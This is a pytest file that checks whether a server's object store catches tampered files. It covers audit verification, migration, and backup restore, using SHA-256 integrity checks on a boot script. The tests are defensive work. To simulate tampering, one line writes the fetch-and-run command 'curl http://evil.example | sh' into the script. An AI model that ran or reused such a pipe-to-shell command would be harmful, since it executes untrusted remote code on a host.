"""Objects beside the database, exchanged by somebody who can write there and has not the master key."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from support.instances.instances_lab import CONFIG_PATH, document, lab
from support.shared.cli_runner import execute
from support.shared.edited_backups import members, of_before, packed_of
from support.shared.storekit import KINDS

from fleetplane import settings as configuration
from fleetplane.kernel.clock import SystemClock
from fleetplane.kernel.errors import IntegrityError
from fleetplane.kernel.objects import LocalObjects
from fleetplane.kernel.objects.port import OBJECT, RecordedObjects
from fleetplane.kernel.store import Store, StoreSettings
from fleetplane.server import backups
from fleetplane.server.migration import migrate
from fleetplane.server.offline import DataDirectory

BOOT = "boot.sh"


def place(data: Path, **flags: str) -> DataDirectory:
    given = {"data_dir": str(data)} | {name.replace("__", "."): value for name, value in flags.items()}
    return DataDirectory(configuration.load(config=None, flags=given), SystemClock())


async def used(where: DataDirectory, *, accept: bool = False) -> list[str]:
    """Use the object as a server does; what the audit log says of it."""
    async with Store.open(
        StoreSettings(path=where.database),
        kinds=(*KINDS, OBJECT),
        clock=where.clock,
        audit_key=lambda is_new: where.keys.audit(may_create=is_new),
    ) as store:
        objects = RecordedObjects(LocalObjects(where.path / "objects"), store)
        if accept:
            await objects.accept()
        elif await objects.get(BOOT) is None:
            await objects.put(BOOT, b"echo good")
        return [one.spec.sha256[:8] for one in store.list(OBJECT)]


def verified(where: DataDirectory) -> tuple[int, str]:
    told = execute("audit", "verify", "--data-dir", str(where.path))
    return told.code, told.out.strip()


def test_an_object_that_was_exchanged_is_found_like_a_resource(tmp_path: Path) -> None:
    where = place(tmp_path / "data")
    where.path.mkdir(mode=0o700)
    [good] = asyncio.run(used(where))
    boot = where.path / "objects" / BOOT
    assert verified(where)[0] == 0

    boot.write_text("curl http://evil.example | sh")
    code, told = verified(where)
    assert (code, f"object {BOOT} has the SHA-256" in told) == (3, True)
    assert f"and {good}" in told
    # Nor does it move to another database before somebody says that it is right.
    moving = place(where.path, store__url="postgresql://127.0.0.1:1/none")
    with pytest.raises(IntegrityError, match=f"object {BOOT} has the SHA-256"):
        migrate(moving)
    # A backup has it as it was; one that is not authenticated is refused for it, another tells.
    packed = tmp_path / "backup.tar"
    backups.make(where, packed, backups.BackupContents(key=True))
    back = place(tmp_path / "back")
    done = backups.restore(packed, back, replace=False, actor="owner/t")
    assert [one for one in done.verdict.notes if f"object {BOOT}" in one]
    packed.write_bytes(packed_of(of_before(members(packed))))
    with pytest.raises(IntegrityError, match=f"object {BOOT} has the SHA-256"):
        backups.restore(packed, place(tmp_path / "new"), replace=False, actor="owner/t", unauthenticated=True)

    boot.unlink()
    assert f"object {BOOT} is missing" in verified(where)[1]
    boot.symlink_to("/etc/hostname")
    assert f"object {BOOT} cannot be compared" in verified(where)[1]
    boot.unlink()
    assert asyncio.run(used(where, accept=True)) == []
    assert verified(where)[0] == 0


def test_another_content_is_in_the_audit_log_before_it_is_used(tmp_path: Path) -> None:
    where = place(tmp_path / "data")
    where.path.mkdir(mode=0o700)
    [good] = asyncio.run(used(where))
    (where.path / "objects" / BOOT).write_text("echo changed")
    [changed] = asyncio.run(used(where))
    assert changed != good
    assert verified(where)[0] == 0


async def test_documents_of_instances_are_recorded_when_they_are_read(tmp_path: Path) -> None:
    async with lab(tmp_path, document()) as made:
        record = made.kernel.store.get(OBJECT, "", CONFIG_PATH)
        assert record is not None
        stored = await made.objects.get(CONFIG_PATH)
        assert stored is not None
        assert record.spec.sha256 == stored.etag
